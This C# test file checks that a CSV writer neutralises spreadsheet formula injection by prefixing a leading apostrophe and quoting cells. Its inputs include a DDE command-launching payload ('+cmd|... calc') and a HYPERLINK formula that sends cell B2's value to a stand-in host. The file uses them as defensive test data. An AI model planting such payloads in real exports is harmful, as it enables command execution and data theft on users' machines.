using Traceability.Projections.Matrix;

namespace Traceability.Projections.Tests.Matrix;

/// <summary>The CSV cell rule (issue 13, item 2): what a spreadsheet would evaluate gets a leading apostrophe, nothing else changes.</summary>
public sealed class CsvCells
{
    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=2+2", "'\t=2+2")]
    [InlineData("\r=2+2", "\"'\r=2+2\"")]
    [InlineData("  =2+2", "'  =2+2")]
    [InlineData("=HYPERLINK(\"http://x/?\"&B2,\"details\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"details\"\")\"")]
    public void Formula_like_text_is_neutralised_with_a_leading_apostrophe_and_quoted_as_rfc_4180_needs(string text, string cell) =>
        Assert.Equal(cell, CsvCell.Write(text));

    [Theory]
    [InlineData("-1")]
    [InlineData("+5")]
    [InlineData("250")]
    [InlineData("0x1f")]
    [InlineData("PAN stops the kernel touching user memory.")]
    [InlineData("a = b")]
    [InlineData("")]
    public void Plain_text_and_numbers_are_written_unchanged(string text) => Assert.Equal(text, CsvCell.Write(text));
}
